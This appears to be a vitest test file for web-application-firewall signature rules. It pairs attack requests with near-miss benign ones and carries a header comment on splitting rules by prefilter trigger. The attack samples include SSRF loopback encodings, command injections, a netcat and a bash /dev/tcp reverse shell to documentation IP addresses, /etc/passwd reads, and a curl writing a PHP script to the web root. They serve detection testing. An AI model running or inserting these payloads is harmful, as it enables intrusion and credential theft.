/**
 * Rules of rev 2026-12-10u: three rules whose prefilter trigger was in most benign requests, split so
 * that each part has a specific one (test/signatures/bundled-benign-candidates). 9000528 keeps the
 * hosts it spells; its hosts 0 and 127.1/127.0.1 are 9000540 (right after the `//`) and 9000541 (behind a
 * user-info part). 9000309 keeps the caret, `/v:on`, `%COMSPEC%` and substring branches; `for /f "` is
 * 9000342. 9000365 keeps `-O` right after its delimiter; 9000343 takes it after blanks. 9000373 (ho27, same
 * session) keeps curl's `-K` and Go's `-extld`; a URL followed by `-o` writing a server script is 9000344. Each part fires
 * on its attack and stays quiet on the benign text closest to it.
 *
 * Rev 2026-12-10x (fp28, session 28): four more, candidates on 59 / 25 / 23 % of the generated benign requests. 9000314
 * keeps curl/wget and uname; its other commands are 9000384 (/bin/sh, echo, sleep, chmod), 9000385 (sh -c, nc),
 * 9000386 (ls, nslookup/dig/ping), 9000387 (powershell, cmd /c, net user, certutil, whoami…), 9000388 (python, perl,
 * ruby, php) and 9000375 (cat /etc, /proc). 9000369 keeps its Windows probes but `ver`, now 9000376, whose trigger is
 * `ver` right after the `&`, a blank, `+` or `%20`. 9000117 keeps the word operators (trigger: a blank before them);
 * `||`, `&&` and DIV are 9000183. `net user` in 9000369 and 9000387 takes no line break right after `net` (a Host
 * ending in .net, `.NET CLR` then a header's line end). 9000315 keeps its droppers and nc/fifo shells; `sh -i >&` is
 * 9000377, whose trigger is `-i>` or a blank before the `>` (rev 3's was every `>`).
 */
import { describe } from 'vitest';
import { form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const CASES: RuleCase[] = [
  [9000528, 'block', 'a loopback host as an integer', json('{"url":"http://2130706433/latest/meta-data/"}'), json('{"url":"http://example.com/2130706433"}')],
  [9000540, 'block', 'the host 0 right after the slashes', form('url=http%3A%2F%2F0%2Fadmin'), form('url=http%3A%2F%2F0.pool.ntp.org%2F')],
  [9000540, 'block', 'loopback as 127.0.1 in a JSON value', json('{"webhook":"http://127.0.1/hook"}'), json('{"webhook":"http://127.0.1.5:9000/hook"}')],
  [9000541, 'block', 'loopback as 127.1 behind a user name', form('url=http%3A%2F%2Fsvc%40127.1%2Fadmin'), form('url=http%3A%2F%2Fsvc%40127.10.0.4%3A8080%2F')],
  [9000541, 'block', 'the host 0 behind user info, percent-encoded @', q('next=http%3A%2F%2Fa%3Ab%25400%2F'), q('next=http%3A%2F%2Fa%3Ab%2540db.internal%2F')],
  [9000309, 'suspicious', 'caret-escaped whoami', q('ip=1%26w%5Eh%5Eo%5Ea%5Em%5Ei'), q('v=%5E1.2.3')],
  [9000342, 'suspicious', 'for /f over a quoted command', form('cmd=for+/f+%22delims%3D%22+%25i+in+(%27whoami%27)+do+echo+%25i'), form('note=for+/f+see+the+docs')],
  [9000365, 'block', '-O glued to a command right after =', q('query=-Oecho+95hj9sna'), q('query=-O2+optimization+flags')],
  [9000343, 'block', '-O glued to a command after blanks', q('query=+-Ocurl+http%3A%2F%2F203.0.113.9%2Fa'), q('query=+-O2+flags')],
  [9000373, 'block', 'curl -K naming a remote config (rev 2)', q('src=-K+https%3A%2F%2Fimg.example.net%2Fa.cfg'), q('src=https%3A%2F%2Fimg.example.net%2F-K.cfg')],
  [9000344, 'block', 'a URL, then -o writing a server script', form('feed=https://sync.example.io/x.txt -o /var/www/html/s.php'), form('feed=https://sync.example.io/x.txt -o /tmp/x.txt')],
];

const CASES_10X: RuleCase[] = [
  [9000314, 'block', 'curl of a URL after a separator', q('ip=127.0.0.1;curl+http://203.0.113.9/x.sh'), q('doc=curl+http%3A%2F%2Fexample.com%2Fx+downloads+it')],
  [9000314, 'block', 'uname -a after a pipe', form('host=10.0.0.1%7Cuname+-a'), form('note=uname+-a+prints+the+kernel')],
  [9000384, 'block', '/bin/sh after a pipe', q('cmd=a%7C%2Fbin%2Fsh'), q('shell=%2Fbin%2Fsh')],
  [9000384, 'block', 'sleep seconds after a separator', q("ip=1';sleep%205;date"), q('ip=1%27%3Bsleep%205%3B%20done')],
  [9000385, 'block', 'sh -c after a separator in JSON', json('{"host":"127.0.0.1;sh -c id"}'), json('{"script":"run it with sh -c"}')],
  [9000385, 'block', 'nc -e after a pipe', form('host=10.0.0.1|nc -e /bin/sh 203.0.113.7 4444'), form('note=nc+-e+is+disabled+in+openbsd-netcat')],
  [9000386, 'block', 'ping of a host name after a separator', json('{"host":"x;ping -c 3 a.b.example.com"}'), json('{"note":"ping -c 3 a.b.example.com"}')],
  [9000387, 'block', 'whoami after &&', q('host=1.1.1.1%26%26whoami'), q('q=whoami+command')],
  [9000387, 'block', 'net user after a separator', q('h=x%3Bnet+user'), q('h=x%3Bnet%0Auser')],
  [9000388, 'block', 'perl -e after a separator', q('c=x;perl+-e+%27print+1%27'), q('q=perl+-e+one-liners')],
  [9000388, 'block', 'php -r after a separator', q('c=x%7Cphp+-r+%27phpinfo();%27'), q('page=%2Findex.php+-r')],
  [9000375, 'block', 'cat of /etc/passwd spaced with ${IFS}', q('ip=127.0.0.1%3Bcat%24%7BIFS%7D%2Fetc%2Fpasswd'), q('q=cat+%2Fetc%2Fpasswd+explained')],
  [9000369, 'block', 'net user between quoted & separators', json('{"utility_path":"C:\\\\x\\" & net user & \\""}'), json('{"utility_path":"C:\\\\x\\" & net\\nuser & \\""}')],
  [9000376, 'block', 'ver between quoted & separators', json('{"utility_path":"C:\\\\x\\" & ver & \\""}'), json('{"note":"\\"server\\" & version 2"}')],
  [9000117, 'block', 'OR 1 as a JSON value', json('{"page":"9255 or 1"}'), json('{"answer":"2 or 3"}')],
  [9000183, 'block', '|| 1 as a form value', form('id=1+%7C%7C+1'), form('id=1+%7C%7C+2')],
  [9000183, 'block', 'DIV 0 and a hash comment', form('file=8998+div+0%23&submit=1'), form('q=8+div+block')],
  [9000377, 'block', 'an interactive shell with its descriptors redirected', json('{"cmd":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}'), json('{"note":"run bash -i > out.log & tail it"}')],
  [9000377, 'block', 'sh -i >& with + for blanks in a query', q('c=x%7Csh+-i+%3E%26+%2Fdev%2Fudp%2F203.0.113.9%2F53'), q('c=sh+-i+%3E+out.txt')],
  [9000315, 'block', 'a /dev/tcp host and port (rev 4 keeps it)', json('{"cmd":"exec 5<>/dev/tcp/203.0.113.9/4444"}'), json('{"doc":"/dev/tcp is a bash feature"}')],
];

describe('bundled rules split for specific prefilter triggers (rev 2026-12-10u)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});

describe('bundled rules split for specific prefilter triggers (rev 2026-12-10x)', () => {
  testRuleCases(CASES_10X, hits);
  testPrefilterEntries(CASES_10X.map(([sid]) => sid), rules);
});
